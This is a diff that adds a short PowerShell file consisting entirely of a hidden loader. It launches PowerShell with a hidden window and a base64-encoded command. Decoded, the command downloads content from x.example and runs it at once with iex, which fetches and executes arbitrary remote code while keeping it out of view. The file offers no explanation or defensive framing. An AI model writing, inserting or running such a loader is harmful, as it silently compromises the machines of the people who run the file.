@@ -0,0 +1,2 @@
+set-alias rzs start-process
+start-process powershell -WindowStyle Hidden -EncodedCommand JABhAD0AJABlAHgAZQBjAHUAdABpAG8AbgBjAG8AbgB0AGUAeAB0ADsACgAkAGcAbABvAGIAYQBsADoAYgBsAG8AYwBrAD0AKABjAHUAcgBsACAAIgBoAHQAdABwADoALwAvAHgALgBlAHgAYQBtAHAAbABlAC8AIgAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAKQAuAEMAbwBuAHQAZQBuAHQAOwAKAGkAZQB4ACAAJABnAGwAbwBiAGEAbAA6AGIAbABvAGMAawAKAA==